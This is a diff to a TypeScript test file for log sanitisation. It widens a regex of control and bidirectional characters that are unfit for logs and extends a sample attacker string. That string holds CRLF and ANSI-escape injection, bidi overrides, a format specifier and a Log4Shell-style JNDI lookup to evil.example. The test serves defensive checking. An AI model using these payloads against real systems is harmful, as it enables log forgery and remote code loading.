@@ -21,11 +21,11 @@ beforeAll(async () => {
 afterAll(() => stage[Symbol.asyncDispose]());
 
 /** Ends a line for some reader, or does something to a terminal: none of it may stand in a log as it is. */
-const unfitForLogs = /[\p{Cc}\p{Zl}\p{Zp}\u202A-\u202E\u2066-\u2069]/u;
+const unfitForLogs = /[\p{Cc}\p{Zl}\p{Zp}\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;
 
 /** What an attacker would like to see come out of a log. */
 const hostile =
-  'canary\r\n{"level":60}\u001B[2J\u009B31m\u0085\u2028\u2029\u202E${jndi:ldap://evil.example/a}%n\0';
+  'canary\r\n{"level":60}\u001B[2J\u009B31m\u0085\u2028\u2029\u202E\u200F\u061C${jndi:ldap://evil.example/a}%n\0';
 
 /** Runs `act` while the server's database lacks the table, as it would be after a botched repair. */
 async function withoutTable(table: string, act: () => Promise<void>): Promise<void> {
